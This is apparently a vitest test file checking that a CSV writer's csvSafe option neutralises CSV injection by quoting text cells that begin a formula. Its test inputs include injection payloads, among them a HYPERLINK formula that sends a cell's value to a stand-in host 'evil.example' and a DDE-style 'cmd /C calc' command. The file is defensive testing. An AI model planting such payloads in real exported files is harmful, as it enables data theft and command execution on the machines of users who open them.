import { describe, expect, it } from 'vitest';
import type { Column, Row } from '../../src/core/columns.js';
import { CONVERSIONS_COLUMNS } from '../../src/providers/mbuzz/schemas.js';
import { csvSafeText, writeCsv } from '../../src/writers/csv.js';
import { MemorySink, fixtureRows, parseCsvWithPython, rowsOf } from './helpers.js';

// --csv-safe (WriterOptions.csvSafe): OWASP's rule against CSV injection. A text cell that a
// spreadsheet would evaluate gets a leading single quote; numbers stay numbers. Read back by
// Python's csv module, so the check does not trust the writer's own quoting.

const COLUMNS: readonly Column[] = [
  { name: 'name', type: 'string', nullable: true },
  { name: 'amount', type: 'double', nullable: true },
  { name: 'count', type: 'int64', nullable: true },
  { name: 'props', type: 'json', nullable: true },
];

async function cells(rows: Row[], csvSafe?: boolean): Promise<string[][]> {
  const sink = new MemorySink();
  await writeCsv(rowsOf(rows), sink, { columns: COLUMNS, ...(csvSafe === undefined ? {} : { csvSafe }) });
  const [header, ...records] = parseCsvWithPython(sink.text());
  expect(header).toEqual(COLUMNS.map((c) => c.name));
  return records;
}

describe('CSV writer with csvSafe', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['-5', `'-5`], // a string column holding text that looks like a number is still text
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\uFF1D1+1', `'\uFF1D1+1`], // full-width equals sign
    ['a=b', 'a=b'],
    ['email', 'email'],
    [' =1', ' =1'],
    ["'already quoted", "'already quoted"],
    ['', ''],
  ])('string cell %j -> %j', async (value, expected) => {
    const [record] = await cells([{ name: value, amount: 1, count: 1, props: {} }], true);
    expect(record![0]).toBe(expected);
  });

  it('leaves real numbers alone, negative ones included, but not text in a numeric column', async () => {
    const records = await cells(
      [
        { name: 'x', amount: -3.5, count: -7, props: null },
        { name: 'y', amount: '=1+1', count: '-1+2', props: null },
        { name: 'z', amount: -1e-7, count: null, props: null },
      ],
      true,
    );
    expect(records.map((r) => [r[1], r[2]])).toEqual([
      ['-3.5', '-7'],
      ["'=1+1", "'-1+2"],
      ['-1e-7', ''],
    ]);
  });

  it('JSON cells start with { [ or a quote, so they pass through; a JSON number is a number', async () => {
    const records = await cells(
      [
        { name: 'a', amount: null, count: null, props: { formula: '=1+1' } },
        { name: 'b', amount: null, count: null, props: '=1+1' },
        { name: 'c', amount: null, count: null, props: -4 },
      ],
      true,
    );
    expect(records.map((r) => r[3])).toEqual(['{"formula":"=1+1"}', '"=1+1"', '-4']);
  });

  it('is off by default: every cell is exactly the value', async () => {
    for (const flag of [undefined, false]) {
      const records = await cells([{ name: '=1+1', amount: -2, count: 3, props: null }], flag);
      expect(records).toEqual([['=1+1', '-2', '3', '']]);
    }
  });

  it('keeps RFC 4180 quoting around a prefixed cell holding commas, quotes and line ends', async () => {
    const sink = new MemorySink();
    await writeCsv(rowsOf([{ name: '=A1,"x"\r\ny', amount: 1, count: 1, props: null }]), sink, { columns: COLUMNS, csvSafe: true });
    expect(sink.text().split('\r\n')[1]).toBe(`"'=A1,""x""`);
    expect(parseCsvWithPython(sink.text())[1]![0]).toBe(`'=A1,"x"\r\ny`);
  });

  it('changes no cell of the real fixture rows except ones that start a formula', async () => {
    const rows = fixtureRows('conversions');
    const plain = new MemorySink();
    const safe = new MemorySink();
    await writeCsv(rowsOf(rows), plain, { columns: CONVERSIONS_COLUMNS });
    await writeCsv(rowsOf(rows), safe, { columns: CONVERSIONS_COLUMNS, csvSafe: true });
    const a = parseCsvWithPython(plain.text());
    const b = parseCsvWithPython(safe.text());
    expect(b).toHaveLength(a.length);
    // OWASP's starts (= + - @ tab CR, and their full-width forms), written out here rather than
    // taken from the writer: a text cell that starts with one gains a quote, a number never does.
    const formula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);
    a.forEach((record, i) =>
      record.forEach((cell, j) => {
        const value = i === 0 ? undefined : rows[i - 1]![CONVERSIONS_COLUMNS[j]!.name];
        const quote = i > 0 && typeof value !== 'number' && formula(cell);
        expect(b[i]![j]).toBe(quote ? `'${cell}` : cell);
      }),
    );
  });

  it('csvSafeText on its own', () => {
    expect(csvSafeText('=x', '=x')).toBe("'=x");
    expect(csvSafeText('-1', -1)).toBe('-1');
    expect(csvSafeText('-1', BigInt(-1))).toBe('-1');
    expect(csvSafeText('-1', '-1')).toBe("'-1");
    expect(csvSafeText('+1', '+1')).toBe("'+1");
    expect(csvSafeText('{"a":"=1"}', { a: '=1' })).toBe('{"a":"=1"}');
  });
});
